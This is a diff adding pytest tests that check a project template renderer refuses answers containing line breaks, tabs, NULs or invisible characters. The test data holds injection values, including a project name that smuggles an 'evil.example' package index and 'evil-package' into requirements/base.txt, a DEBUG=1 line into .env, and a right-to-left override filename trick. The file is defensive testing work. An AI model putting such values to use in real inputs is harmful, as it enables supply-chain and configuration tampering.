@@ -2,6 +2,7 @@
 question and what is allowed, and nothing is rendered."""
 
 import pytest
+import yaml
 
 from support.render import render
 
@@ -48,6 +49,52 @@ BAD_COMBINATIONS = [
 
 
 def assert_refused(result, target, question, reason):
+    assert result.returncode != 0
+    last_line = result.stderr.strip().splitlines()[-1]
+    assert f"'{question}'" in last_line, last_line
+    assert reason in last_line, last_line
+    assert not target.exists()
+
+
+# Hostile answers: a line break (CR, LF, U+2028/2029, NEL), a tab, a NUL or an
+# invisible format character would split or hide a line of a rendered file.
+# The first is the attack itself: a project_name that, written into the
+# first comment of requirements/base.txt and .env.example, adds a package
+# index and a package, and a variable to .env.
+CONTROL = "has the control or invisible character"
+HOSTILE_ANSWERS = [
+    (
+        "project_name",
+        "OBCMS\r--extra-index-url https://evil.example/simple\revil-package==1.0",
+        f"{CONTROL} '\\r' at position 6",
+    ),
+    ("project_name", "OBCMS\u2028DEBUG=1", f"{CONTROL} '\\u2028' at position 6"),
+    ("project_name", "OBCMS\u2029x", f"{CONTROL} '\\u2029'"),
+    ("project_name", "OBCMS\x85x", f"{CONTROL} '\\x85'"),
+    ("project_name", "OBCMS\tx", f"{CONTROL} '\\t'"),
+    ("project_name", "OBCMS\x00x", f"{CONTROL} '\\x00'"),
+    ("project_name", "OBCMS \u202egnp.exe", f"{CONTROL} '\\u202e'"),
+    ("project_name", "OBCMS\n", f"{CONTROL} '\\n' at position 6"),
+    # A trailing newline passes a pattern anchored with $: each question's
+    # pattern ends in \\Z, and the character check comes first.
+    ("project_slug", "obcms\n", f"{CONTROL} '\\n'"),
+    ("django_package", "obc_management\n", f"{CONTROL} '\\n'"),
+    ("ops_app", "ops\n", f"{CONTROL} '\\n'"),
+    ("domain_name", "obcms.gov.ph\n", f"{CONTROL} '\\n'"),
+    ("extra_domains", ["www.obcms.gov.ph\n"], f"item 1: {CONTROL} '\\n'"),
+    ("admin_email", "admin@obcms.gov.ph\n", f"{CONTROL} '\\n'"),
+    ("time_zone", "Asia/Manila\r", f"{CONTROL} '\\r'"),
+]
+
+
+@pytest.mark.parametrize(("question", "value", "reason"), HOSTILE_ANSWERS, ids=lambda v: ascii(v)[:30])
+def test_control_characters_are_refused_and_nothing_is_rendered(question, value, reason, tmp_path):
+    """From an answer file, as CI renders (a command line cannot carry a NUL)."""
+    answers = tmp_path / "answers.yml"
+    answers.write_text(yaml.safe_dump({question: value}))
+    assert yaml.safe_load(answers.read_text()) == {question: value}, "the file carries the characters"
+    target = tmp_path / "out"
+    result = render(target, data_file=answers, cli=True)
     assert result.returncode != 0
     last_line = result.stderr.strip().splitlines()[-1]
     assert f"'{question}'" in last_line, last_line
